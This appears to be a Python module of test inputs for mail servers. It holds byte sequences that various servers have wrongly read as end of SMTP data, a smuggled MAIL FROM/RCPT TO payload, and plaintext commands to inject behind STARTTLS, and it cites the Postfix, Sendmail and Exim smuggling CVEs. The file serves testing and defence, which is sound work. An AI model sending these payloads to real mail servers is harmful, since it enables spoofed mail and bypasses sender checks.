"""Octets with which mail and commands were smuggled past servers.

SMTP smuggling: CVE-2023-51764 (Postfix), CVE-2023-51765 (Sendmail), CVE-2023-51766
(Exim) and their like: an end of data that one server sees and another does not.
STARTTLS: CVE-2011-0411 and the twenty that "Why TLS is better without STARTTLS" (2021)
found: plaintext that is read as if it had come over TLS.
"""

from __future__ import annotations

#: None of these is CRLF.CRLF (RFC 5321 §4.1.1.4), each has ended data somewhere.
NO_END_OF_DATA = [
    b"\n.\n",
    b"\r.\r",
    b"\n.\r\n",
    b"\r\n.\n",
    b"\r.\r\n",
    b"\r\n.\r",
    b"\n.\r",
    b"\r.\n",
    b"\n\n.\n\n",
    b"\r\r.\r\r",
    b"\r\n.\n\r",
    b"\n\r.\n\r",
    b"\r\n.\r\r\n",
    b"\r\n..\r\n",
    b"\r\n.\x00\r\n",
    b"\r\n\x00.\r\n",
    b"\r\x00\n.\r\n",
    b"\r\n.\r\x00\n",
    b"\x00\r\n\x00.\x00\r\n\x00",
    b"\r\n. \r\n",
    b"\r\n.\t\r\n",
    b"\r\n .\r\n",
    b"\r\n.\x0b\r\n",
    b"\x0b.\x0b",
    b"\x0c.\x0c",
    b"\x1a.\x1a",
    b"\x85.\x85",
    b"\xc2\x85.\xc2\x85",
    b"\xe2\x80\xa8.\xe2\x80\xa8",
    b"\r\n\xef\xbb\xbf.\r\n",
    b"\r\n.=0D=0A",
    b"\r\n%2e\r\n",
    b"\\r\\n.\\r\\n",
    b"\r\n.\r\\n",
]

#: What an attacker hopes to be taken for commands.
SMUGGLED = (
    b"MAIL FROM:<evil@example.org>\r\nRCPT TO:<victim@example.org>\r\n"
    b"DATA\r\nSubject: smuggled\r\n\r\nhello"
)

#: Plaintext behind STARTTLS, in the same packet or just after it.
BEHIND_STARTTLS = [
    b"NOOP\r\n",
    b"EHLO evil.example.org\r\n",
    b"EHLO evil.example.org\r\nMAIL FROM:<evil@example.org>\r\n",
    b"RSET\r\nRSET\r\n",
    b"AUTH PLAIN AHRpbQB0YW5zdGFhZg==\r\n",
    b"QUIT\r\n",
    b"STARTTLS\r\n",
    b"MAIL FROM:<evil@example.org>",
    b"\r\n",
    b"\n",
    b"N",
    b"\x00",
    b"BDAT 5 LAST\r\nhello",
]
